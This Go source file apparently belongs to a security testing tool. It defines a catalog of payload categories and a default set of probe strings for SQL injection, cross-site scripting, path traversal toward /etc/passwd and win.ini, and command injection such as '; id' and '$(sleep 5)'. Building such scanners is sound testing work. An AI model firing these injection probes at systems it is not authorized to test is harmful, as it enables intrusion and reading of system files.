package probe

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
)

var ErrUnknownCategory = errors.New("unknown payload category")

type Category string

const (
	CategorySQL              Category = "sql"
	CategoryXSS              Category = "xss"
	CategoryPathTraversal    Category = "path_traversal"
	CategoryCommandInjection Category = "command_injection"
)

// BuiltinCategories lists the categories every catalog accepts.
var BuiltinCategories = []Category{
	CategorySQL,
	CategoryXSS,
	CategoryPathTraversal,
	CategoryCommandInjection,
}

type Payload struct {
	Category Category `json:"category"`
	Value    string   `json:"value"`
}

// Catalog is the set of payload categories accepted at load time. The
// built-in categories are always present; anything else must be registered
// explicitly before a payload document naming it is loaded.
type Catalog struct {
	mu    sync.RWMutex
	extra []Category
}

func NewCatalog(extra ...string) *Catalog {
	c := &Catalog{}
	for _, e := range extra {
		_ = c.Register(e)
	}
	return c
}

func (c *Catalog) Register(name string) error {
	cat := Category(strings.ToLower(strings.TrimSpace(name)))
	if cat == "" {
		return fmt.Errorf("register category: empty name")
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if slices.Contains(BuiltinCategories, cat) || slices.Contains(c.extra, cat) {
		return nil
	}
	c.extra = append(c.extra, cat)
	return nil
}

// Validate returns the canonical category for name or ErrUnknownCategory.
func (c *Catalog) Validate(name string) (Category, error) {
	cat := Category(strings.ToLower(strings.TrimSpace(name)))
	if slices.Contains(BuiltinCategories, cat) {
		return cat, nil
	}
	c.mu.RLock()
	defer c.mu.RUnlock()
	if slices.Contains(c.extra, cat) {
		return cat, nil
	}
	return "", fmt.Errorf("%w: %q", ErrUnknownCategory, name)
}

func (c *Catalog) Categories() []Category {
	c.mu.RLock()
	defer c.mu.RUnlock()
	out := append([]Category(nil), BuiltinCategories...)
	return append(out, c.extra...)
}

// PayloadSet maps a category to its ordered payload values.
type PayloadSet map[Category][]string

// Flatten returns the payloads of the requested categories in category
// order, then value order. With no categories given it uses every category
// of the set in catalog order.
func (s PayloadSet) Flatten(order []Category, only ...Category) []Payload {
	cats := only
	if len(cats) == 0 {
		cats = order
	}
	var out []Payload
	for _, cat := range cats {
		for _, v := range s[cat] {
			out = append(out, Payload{Category: cat, Value: v})
		}
	}
	return out
}

// DefaultPayloads is the payload document used when none has been saved.
func DefaultPayloads() PayloadSet {
	return PayloadSet{
		CategorySQL: {
			"'",
			"' OR '1'='1",
			"' OR 1=1--",
			"\" OR \"\"=\"",
			"1' ORDER BY 1--",
			"1' UNION SELECT NULL--",
			"'; WAITFOR DELAY '0:0:5'--",
			"1' AND SLEEP(5)--",
		},
		CategoryXSS: {
			"<script>alert(1)</script>",
			"\"><script>alert(1)</script>",
			"<img src=x onerror=alert(1)>",
			"<svg/onload=alert(1)>",
			"javascript:alert(1)",
		},
		CategoryPathTraversal: {
			"../../../../etc/passwd",
			"..%2f..%2f..%2f..%2fetc%2fpasswd",
			"....//....//....//etc/passwd",
			"..\\..\\..\\..\\windows\\win.ini",
		},
		CategoryCommandInjection: {
			"; id",
			"| id",
			"&& whoami",
			"`id`",
			"$(sleep 5)",
		},
	}
}
